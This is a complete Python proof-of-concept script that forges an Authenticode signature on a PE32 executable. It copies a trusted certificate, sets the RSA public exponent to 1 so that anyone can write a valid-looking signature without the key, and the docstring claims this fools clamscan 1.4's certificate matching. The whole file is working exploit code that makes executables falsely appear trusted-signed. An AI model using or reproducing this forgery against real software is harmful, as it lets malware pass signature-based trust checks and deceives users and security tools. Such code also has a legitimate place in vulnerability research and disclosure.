#!/usr/bin/env python3
"""forge.py IN.exe OUT.exe CERT_PREFIX: OUT is IN "signed" with a copy of
CERT_PREFIX.crt whose public exponent is changed to 1, without its key:
with e = 1 the signature is simply the PKCS#1-padded digest, which
anyone can write. A checker that matches a trusted certificate by
subject, serial and modulus alone, as clamscan 1.4 does, trusts OUT."""
import hashlib
import struct
import sys

from cryptography import x509
from cryptography.hazmat.primitives import serialization

from der import NULL, content_of, integer, octets, oid, seq, set_, tlv

SHA256 = '2.16.840.1.101.3.4.2.1'


def h(*parts):
    return hashlib.sha256(b''.join(parts)).digest()


def forge(pe_in, out, prefix):
    cert = x509.load_pem_x509_certificate(open(prefix + '.crt', 'rb').read())
    der = cert.public_bytes(serialization.Encoding.DER)
    # The exponent 65537 (INTEGER 01 00 01) becomes 1, at the same length.
    assert der.count(b'\x02\x03\x01\x00\x01') == 1
    forged = der.replace(b'\x02\x03\x01\x00\x01', b'\x02\x03\x00\x00\x01')
    k = (cert.public_key().public_numbers().n.bit_length() + 7) // 8
    d = bytearray(open(pe_in, 'rb').read())
    while len(d) % 8:
        d.append(0)
    opt = struct.unpack_from('<I', d, 0x3c)[0] + 24
    assert struct.unpack_from('<H', d, opt)[0] == 0x10b, 'PE32 only'
    sec, chk = opt + 128, opt + 64
    table = len(d)
    auth = h(bytes(d[:chk]), bytes(d[chk + 4:sec]), bytes(d[sec + 8:table]))
    spc = seq(seq(oid('1.3.6.1.4.1.311.2.1.15'),
                  seq(tlv(0x03, b'\x00'), tlv(0xa0, tlv(0xa2, tlv(0x80, b''))))),
              seq(seq(oid(SHA256), NULL), octets(auth)))
    attrs = set_(seq(oid('1.2.840.113549.1.9.3'), set_(oid('1.3.6.1.4.1.311.2.1.4'))),
                 seq(oid('1.2.840.113549.1.9.4'), set_(octets(h(content_of(spc))))))
    info = bytes.fromhex('3031300d060960864801650304020105000420') + h(attrs)
    padded = b'\x00\x01' + b'\xff' * (k - 3 - len(info)) + b'\x00' + info
    signer = seq(integer(1), seq(cert.issuer.public_bytes(), integer(cert.serial_number)),
                 seq(oid(SHA256), NULL), tlv(0xa0, content_of(attrs)),
                 seq(oid('1.2.840.113549.1.1.1'), NULL), octets(padded))
    signed = seq(integer(1), set_(seq(oid(SHA256), NULL)),
                 seq(oid('1.3.6.1.4.1.311.2.1.4'), tlv(0xa0, spc)),
                 tlv(0xa0, forged), set_(signer))
    p7 = seq(oid('1.2.840.113549.1.7.2'), tlv(0xa0, signed))
    while len(p7) % 8:
        p7 += b'\x00'
    size = 8 + len(p7)
    struct.pack_into('<II', d, sec, table, size)
    d += struct.pack('<IHH', size, 0x200, 2) + p7
    open(out, 'wb').write(d)


if __name__ == '__main__':
    forge(*sys.argv[1:4])
